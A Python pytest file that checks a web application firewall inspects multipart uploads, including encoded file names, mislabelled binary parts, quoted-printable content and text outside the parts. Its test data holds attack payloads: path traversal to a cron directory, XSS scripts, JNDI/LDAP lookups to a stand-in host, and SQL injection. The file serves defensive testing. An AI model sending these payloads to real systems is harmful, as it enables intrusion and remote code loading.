"""Multipart parts as handlers' parsers read them (adv-dos F6, F8, F9).

Extended file names (RFC 2231/5987 ``filename*``), parts whose declared type
says binary while their bytes are text, quoted-printable parts, and text
outside the parts: each passed the WAF before.
"""

from __future__ import annotations

import os
import struct
import zlib

import pytest

from ramparts.gateway.waf.engine import Waf
from ramparts.gateway.waf.request import WafRequest

WAF = Waf()
CTYPE = "multipart/form-data; boundary=b"


def _request(body: bytes) -> WafRequest:
    return WafRequest("POST", "/up", "", [("content-type", CTYPE)], body, CTYPE, "POST /up")


def _part(disposition: str, headers: str = "", content: bytes = b"hello") -> WafRequest:
    head = f"Content-Disposition: form-data; {disposition}\r\n{headers}".rstrip("\r\n")
    return _request(b"--b\r\n" + head.encode() + b"\r\n\r\n" + content + b"\r\n--b--\r\n")


@pytest.mark.parametrize(
    "disposition",
    [
        "name=\"file\"; filename*=UTF-8''..%2F..%2F..%2Fetc%2Fcron.d%2Fevil",
        "name=\"file\"; filename=\"safe.png\"; filename*=UTF-8''..%2F..%2F..%2Fetc%2Fcron.d%2Fevil",
        "name=\"file\"; filename*=UTF-8''%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E.png",
        "name=\"file\"; filename*=UTF-8''%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
        "name=\"file\"; filename*=\"UTF-8''%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D\"",
        "name=\"file\"; filename*=iso-8859-1'en'%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        # RFC 2231 continuations: the pieces are harmless alone, the joined name is not.
        "name=\"file\"; filename*0*=UTF-8''%24%7Bjndi%3Aldap; filename*1=\"://x.example/a}\"",
    ],
)
@pytest.mark.parametrize("ptype", ["Content-Type: image/png", "Content-Type: text/plain", ""])
def test_extended_file_names_are_inspected(disposition: str, ptype: str) -> None:
    verdict = WAF.inspect(_part(disposition, ptype))
    assert verdict.blocked, (disposition, ptype, verdict.matches)
    assert any(m.location == "form.file.filename" for m in verdict.matches)


def test_harmless_extended_file_name_passes() -> None:
    verdict = WAF.inspect(_part("name=\"file\"; filename*=UTF-8''r%C3%A9sum%C3%A9%202026.pdf",
                                "Content-Type: application/pdf"))
    assert not verdict.matches


@pytest.mark.parametrize(
    ("ptype", "content"),
    [
        ("Content-Type: font/woff", b"' UNION SELECT password FROM users--"),
        ("Content-Type: IMAGE/png", b"<script>alert(document.cookie)</script>"),
        ("Content-Type: image/svg+xml", b"<svg onload=alert(1)></svg>"),
        ("Content-Type: audio/mpeg", b"${jndi:ldap://x.example/a}"),
        # One stray byte in a long text: still text to a lenient decode.
        ("Content-Type: video/mp4",
         b"<script>alert(1)</script> and then a few ordinary words of a comment\xff"),
    ],
)
def test_a_binary_label_does_not_hide_text(ptype: str, content: bytes) -> None:
    for disposition in ('name="comment"', 'name="comment"; filename="a.png"'):
        verdict = WAF.inspect(_part(disposition, ptype, content))
        assert verdict.blocked, (disposition, ptype, verdict.matches)
        assert any(m.location == "form.comment" for m in verdict.matches)


def _png() -> bytes:
    """A real PNG of random pixels: binary through and through."""
    raw = b"".join(b"\x00" + os.urandom(3 * 64) for _ in range(64))

    def chunk(tag: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + tag + data + struct.pack(
            ">I", zlib.crc32(tag + data) & 0xFFFFFFFF
        )

    header = struct.pack(">IIBBBBB", 64, 64, 8, 2, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(raw))
            + chunk(b"IEND", b""))


def test_a_real_image_is_still_not_text() -> None:
    verdict = WAF.inspect(_part('name="photo"; filename="p.png"', "Content-Type: image/png",
                                _png()))
    assert not verdict.matches


def test_quoted_printable_parts_are_decoded() -> None:
    content = b"=3Cscript=3Ealert(document.cookie)=3C/script=3E"
    verdict = WAF.inspect(_part('name="f"', "Content-Transfer-Encoding: quoted-printable",
                                content))
    assert verdict.blocked, verdict.matches
    assert any(m.location == "form.f" for m in verdict.matches)


@pytest.mark.parametrize("where", ["preamble", "epilogue"])
def test_text_outside_the_parts_is_inspected(where: str) -> None:
    attack = b"<script>alert(document.cookie)</script>"
    part = b'--b\r\nContent-Disposition: form-data; name="f"\r\n\r\nhello\r\n--b--\r\n'
    body = attack + b"\r\n" + part if where == "preamble" else part + attack + b"\r\n"
    verdict = WAF.inspect(_request(body))
    assert verdict.blocked, verdict.matches
    assert any(m.location == "body" for m in verdict.matches)
